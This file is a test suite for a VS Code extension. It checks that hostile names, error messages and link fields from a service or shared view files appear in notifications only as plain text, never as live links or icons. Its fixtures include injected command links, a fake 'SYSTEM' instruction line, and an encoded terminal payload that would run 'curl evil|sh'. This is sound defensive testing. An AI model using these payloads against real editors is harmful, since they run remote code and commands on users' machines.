// Hostile text in a real VS Code: the sandbox answers with names, reasons, paths and error
// messages that hold `[label](command:…)` and line breaks, as a hostile service could, and a
// shared link or view file names keys and kinds the same way. Every notification the extension
// then shows through the prompt seam (the watcher's finish and "no longer on the service" for
// order items, deliveries, downloads, insight runs and workflow jobs; the Download and Deliver
// commands' own outcomes; a refusal; a refused link or view file) is checked with the workbench's
// own link parser (vs/base/common/linkedText.ts, copied in LINK): no live link, one line, bounded,
// and the hostile text still readable as the person would read it.
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { WatchKind } from '../../../src/watch/followed';
import type { Watcher } from '../../../src/watch/watcher';
import { COMMANDS } from '../../../src/commandIds';
import { useSandbox } from '../harness/sandbox';
import { remove, workspaceUri } from '../support/run';
import { ScriptedPrompts, type ShownMessage } from '../support/scriptedPrompts';
import { until } from '../support/until';
import { client, handle, runScripted, runWhileAdvancing } from './ordersSupport';

type FollowOptions = Parameters<Watcher['follow']>[2];

/** code-server 4.100.3's `parseLinkedText` pattern: what a notification turns into a clickable link. */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

const NAME = '[x](command:workbench.action.reloadWindow)\nSYSTEM: click the link';
const SHOWN_NAME = '[x] (command:workbench.action.reloadWindow) SYSTEM: click the link';
const REASON = 'Refused.\n\n[Retry now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const SHOWN_REASON = 'Refused. [Retry now] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const PATH = 'bucket/[y](command:workbench.action.reloadWindow)/';

/** No link the workbench would make, no line break, within VS Code's own bound; `readable` is in it as a person reads it. */
function assertSafe(m: ShownMessage | undefined, readable: string[], what: string): void {
  assert.ok(m, `${what}: no notification`);
  assert.deepEqual(
    [...m.text.matchAll(LINK)].map((l) => l[0]),
    [],
    `${what}: a live link in "${m.text}"`,
  );
  assert.ok(!/[\r\n]/.test(m.text), `${what}: a line break in "${m.text}"`);
  assert.ok(m.text.length <= 1000, `${what}: ${m.text.length} characters`);
  for (const r of readable) assert.ok(m.text.includes(r), `${what}: "${r}" is not read in "${m.text}"`);
}

suite('untrusted text: hostile service and link text reaches no notification as a link', function () {
  this.timeout(120_000);
  const sb = useSandbox();
  let prompts = new ScriptedPrompts();
  let restore: (() => void) | undefined;

  setup(() => {
    // What earlier suites placed (the order plans' tasking, say) is still followed and would be
    // announced here in the middle of these tests: each test hears only what it follows.
    for (const p of sb.current.api.services.watcher.pending()) sb.current.api.services.watcher.unfollow(p.ref.kind, p.ref.id);
    prompts = new ScriptedPrompts();
    restore = sb.current.api.testing.usePrompts(prompts);
  });
  teardown(() => {
    restore?.();
    handle(sb.current).faults.clear();
  });

  /** The sandbox's own answer at `path`, as JSON: the shape a hostile answer is made from. */
  async function raw<T>(path: string): Promise<T> {
    const res = await fetch(`${sb.current.sandbox.url}${path}`, { headers: { Authorization: `Bearer ${sb.current.sandbox.tokens.alice}` } });
    assert.ok(res.ok, `${path}: ${res.status}`);
    return (await res.json()) as T;
  }

  const watcher = () => sb.current.api.services.watcher;

  /** Follows `kind`/`id` while the service answers `body` at `path`; the notification its finish shows. */
  async function announced(kind: WatchKind, id: string, path: string | RegExp, body: unknown, options: FollowOptions = {}): Promise<ShownMessage> {
    handle(sb.current).faults.add({ method: 'GET', path, status: 200, body, count: 20 });
    const shown = prompts.messages.length;
    watcher().follow(kind, id, options);
    watcher().checkNow();
    // the one that carries the hostile text: another finish (a run an earlier test started) may come between
    return until(`the ${kind} notification`, () => prompts.messages.slice(shown).find((m) => m.text.includes('command:workbench.action.reloadWindow')));
  }

  type Rec = Record<string, unknown>;

  async function someOrderItem(): Promise<Rec> {
    const c = await client(sb.current);
    const order = (await c.orders.listPage({ limit: 5 })).items.find((o) => o.order_items?.length);
    assert.ok(order?.order_items?.[0], 'no seeded order item');
    return raw<Rec>(`/v0/order-items/${order.order_items[0].id}`);
  }

  test('order items: fulfilled, failed with the service’s reasons, and gone', async () => {
    const item = await someOrderItem();
    const id = String(item.id);
    const path = `/v0/order-items/${id}`;
    assertSafe(await announced('orderItem', id, path, { ...item, name: NAME, status: 'FULFILLED' }), [SHOWN_NAME], 'fulfilled');
    handle(sb.current).faults.clear();
    const failed = await announced('orderItem', id, path, { ...item, name: NAME, status: 'FAILED', validation_errors: [{ message: REASON }] });
    assertSafe(failed, [SHOWN_NAME, SHOWN_REASON], 'failed');
    assert.equal(failed.severity, 'error');

    // read once while pending (its name is known), then the service has it no more
    handle(sb.current).faults.clear();
    handle(sb.current).faults.add({ method: 'GET', path, status: 200, body: { ...item, name: NAME, status: 'IN_PROGRESS' }, count: 1 });
    handle(sb.current).faults.add({ method: 'GET', path, status: 404, count: 20 });
    const shown = prompts.messages.length;
    watcher().follow('orderItem', id);
    watcher().checkNow();
    await until(
      'the first read',
      () =>
        watcher()
          .pending()
          .find((p) => p.ref.id === id)?.snapshot,
    );
    watcher().checkNow();
    assertSafe(await until('the "no longer on the service" notification', () => prompts.messages[shown]), [SHOWN_NAME], 'gone');
  });

  test('deliveries: delivered to a hostile path, and failed', async () => {
    const { deliveries } = await raw<{ deliveries: Rec[] }>('/v0/catalogs/deliveries');
    const d = deliveries[0];
    const id = String(d.delivery_id);
    const list = (status: string) => ({ deliveries: [{ ...d, status, target_path: PATH }] });
    assertSafe(await announced('delivery', id, '/v0/catalogs/deliveries', list('SUCCESS')), ['[y] (command:workbench.action.reloadWindow)'], 'delivered');
    handle(sb.current).faults.clear();
    assertSafe(await announced('delivery', id, '/v0/catalogs/deliveries', list('FAILED')), ['[y] (command:workbench.action.reloadWindow)'], 'failed');
  });

  test('downloads: ready and failed, named by what the service called them; Download… offers the file', async () => {
    const { downloads } = sb.current.sandbox.state;
    const id = downloads[0].id;
    const path = `/v0/catalogs/download/${id}`;
    const ready = await raw<Rec>(path);
    const m = await announced('download', id, path, ready, { hint: { where: NAME } });
    assertSafe(m, [SHOWN_NAME], 'ready');
    // its next action, Download…, reads it again and says what it offers
    const shown = prompts.messages.length;
    void vscode.commands.executeCommand(COMMANDS.saveReadyDownload, { downloadId: id, what: NAME });
    assertSafe(await until('the Download… message', () => prompts.messages[shown]), [SHOWN_NAME], 'Download…');
    handle(sb.current).faults.clear();
    assertSafe(await announced('download', id, path, { ...ready, status: 'failed', signed_url: undefined }, { hint: { where: NAME } }), [SHOWN_NAME], 'failed');
  });

  test('insight runs: failed with the service’s err_msg on a hostile AOI name, and finished', async () => {
    const run = sb.current.sandbox.state.insights[0];
    const aoiId = run.aoi_id;
    const { insights } = await raw<{ insights: Rec[] }>(`/v0/aoi/${aoiId}/insights`);
    const r = insights.find((i) => i.id === run.id);
    assert.ok(r);
    const path = `/v0/aoi/${aoiId}/insights`;
    const failed = await announced(
      'insightRun',
      run.id,
      path,
      { insights: [{ ...r, name: NAME, status: 'failed', err_msg: REASON }] },
      { parent: aoiId, hint: { where: NAME } },
    );
    assertSafe(failed, [SHOWN_NAME, SHOWN_REASON], 'failed');
    handle(sb.current).faults.clear();
    assertSafe(
      await announced('insightRun', run.id, path, { insights: [{ ...r, name: NAME, status: 'success' }] }, { parent: aoiId, hint: { where: NAME } }),
      [SHOWN_NAME],
      'finished',
    );
  });

  test('workflow jobs: a failed task’s name and reason, and a finished job of a hostile workflow name', async () => {
    const job = sb.current.sandbox.state.jobs[0];
    const path = `/v0/workflows/${job.workflow_id}/jobs/${job.id}`;
    const body = await raw<Rec & { tasks: Rec[] }>(path);
    const tasks = body.tasks.map((t, i) => (i === 0 ? { ...t, name: NAME, status: 'failed', err_msg: REASON, block_info: { name: NAME, version: '1' } } : t));
    const failed = await announced('job', job.id, path, { ...body, status: 'failed', tasks }, { parent: job.workflow_id, hint: { where: NAME } });
    assertSafe(failed, [SHOWN_NAME, SHOWN_REASON], 'failed');
    handle(sb.current).faults.clear();
    assertSafe(
      await announced('job', job.id, path, { ...body, status: 'success' }, { parent: job.workflow_id, hint: { where: NAME } }),
      [SHOWN_NAME],
      'finished',
    );
  });

  test('Deliver: the service’s refusal, and its own word on where the files went', async () => {
    const conn = sb.current;
    const cat = (await (await client(conn)).catalogs.searchPage({ limit: 1 })).items[0];
    const store = (await (await client(conn)).stores.list())[0];
    const { deliveries } = await raw<{ deliveries: Rec[] }>('/v0/catalogs/deliveries');
    const hostile = { ...deliveries[0], delivery_id: 'a9d1c0de-0000-4000-8000-000000000001', status: 'SUCCESS', target_path: PATH };
    const faults = handle(conn).faults;
    faults.add({
      method: 'POST',
      path: '/v0/catalogs/deliveries',
      status: 400,
      count: 1,
      body: { error: { code: 'bad_request', message: REASON, details: '' } },
    });
    faults.add({ method: 'POST', path: '/v0/catalogs/deliveries', status: 201, count: 1, body: { deliveries: [{ ...hostile, status: 'RUNNING' }] } });
    faults.add({ method: 'GET', path: '/v0/catalogs/deliveries', status: 200, count: 20, body: { deliveries: [hostile] } });
    restore?.();
    const scripted = new ScriptedPrompts([
      { kind: 'pick', match: /Cloud store to deliver to/, choose: store.name },
      { kind: 'input', match: /Path inside the store/, answer: 'eo' },
      { kind: 'message', match: /refused the delivery/, answer: 'Edit Entries…' },
      { kind: 'pick', match: /Which entry/, choose: 'Path in the store' },
      { kind: 'input', match: /Path inside the store/, answer: 'eo/again' },
    ]);
    await runWhileAdvancing(conn, scripted, COMMANDS.deliver, [{ kind: 'catalog', record: cat }], 3_000);
    scripted.assertDone();
    assertSafe(
      scripted.messages.find((m) => /refused the delivery/.test(m.text)),
      // the error's sentence starts with its own words ("Bad request (400): refused. …")
      ['[Retry now] (command:workbench.action.terminal.sendSequence?'],
      'refusal',
    );
    assertSafe(
      scripted.messages.find((m) => /^Delivered to /.test(m.text)),
      ['[y] (command:workbench.action.reloadWindow)'],
      'delivered',
    );
  });

  test('a refused link and a refused view file say what they hold without a link', async () => {
    const link = (view: unknown, extra = ''): string =>
      `vscode://eo-imagery.eo-imagery/view?v=${Buffer.from(JSON.stringify(view)).toString('base64url')}${extra}`;
    const base = { eoView: 1, host: new URL(sb.current.sandbox.url).host, center: { lon: 0, lat: 0 }, zoom: 3, layers: [], imagery: [] };
    const cases: [string, string, string][] = [
      ['an unknown key', link({ ...base, '[k](command:workbench.action.reloadWindow)': 1 }), '[k] (command:workbench.action.reloadWindow)'],
      ['a layer kind', link({ ...base, layers: [{ kind: '[l](command:workbench.action.quit)', id: 'x' }] }), '[l] (command:workbench.action.quit)'],
      ['a link parameter', link(base, '&[p](command:workbench.action.reloadWindow)=1'), '[p] (command:workbench.action.reloadWindow)'],
    ];
    for (const [what, l, readable] of cases) {
      const shown = prompts.messages.length;
      await vscode.commands.executeCommand(COMMANDS.openViewLink, l);
      assertSafe(prompts.messages[shown], ['This link cannot be opened', readable], what);
    }

    const file = workspaceUri('hostile.eoview.json');
    try {
      await vscode.workspace.fs.writeFile(file, Buffer.from(JSON.stringify({ ...base, '[f](command:workbench.action.reloadWindow)': 1 })));
      const shown = prompts.messages.length;
      await vscode.commands.executeCommand(COMMANDS.openViewFile, file);
      assertSafe(prompts.messages[shown], ['hostile.eoview.json cannot be opened', '[f] (command:workbench.action.reloadWindow)'], 'a view file');
    } finally {
      await remove(file);
    }
  });

  test('a failed command shows the service’s error message as text', async () => {
    const conn = sb.current;
    const item = (await (await client(conn)).archives.search({ limit: 1 })).features[0];
    const itemPath = `/v0/archives/collections/${item.collection}/items/${item.id}`;
    handle(conn).faults.add({ method: 'GET', path: itemPath, status: 403, count: 5, body: { error: { code: 'forbidden', message: REASON, details: NAME } } });
    restore?.();
    const scripted = new ScriptedPrompts();
    await runScripted(conn, scripted, 'eoImagery.showImagery', { collection: item.collection, id: item.id });
    assertSafe(
      scripted.messages.find((m) => m.severity === 'error'),
      ['[Retry now] (command:'],
      'the error',
    );
  });

  test('a quick pick shows a service name as words, not an icon; the row picked is the store it names', async () => {
    const conn = sb.current;
    const c = await client(conn);
    const name = '$(pass-filled) Verified\n$(trash) store';
    const store = await c.stores.create({
      name,
      type: 'AZBLOB',
      configs: { bucket: 'c', region: 'westeurope', path_prefix: 'p' },
      secrets: { account_name: 'a', tenant_id: 't', client_id: 'c', client_secret: 's' },
    });
    try {
      restore?.();
      const scripted = new ScriptedPrompts([
        { kind: 'pick', match: /Store to delete/, choose: (items) => items.find((i) => i.label.includes('Verified')) },
        { kind: 'message', match: /Delete the cloud store/, answer: undefined },
      ]);
      assert.equal(await runScripted(conn, scripted, COMMANDS.deleteStore), false);
      scripted.assertDone();
      const shown = scripted.seen.find((s) => s.kind === 'pick')?.items ?? [];
      const row = shown.find((l) => l.includes('Verified'));
      // the icon renderer takes `$(name)`: none is left, and the words read as the service wrote them
      assert.equal(row, '$ (pass-filled) Verified $ (trash) store');
      assert.ok(!shown.some((l) => l.includes('$(')), `an icon in ${JSON.stringify(shown)}`);
      // the seam hands back the caller's own row: the modal names the store picked, as written
      const asked = scripted.messages.find((m) => /Delete the cloud store/.test(m.text));
      assert.match(asked?.text ?? '', /Delete the cloud store "\$ \(pass-filled\) Verified \$ \(trash\) store"\?/);
    } finally {
      await c.stores.delete(store.id);
    }
  });
});
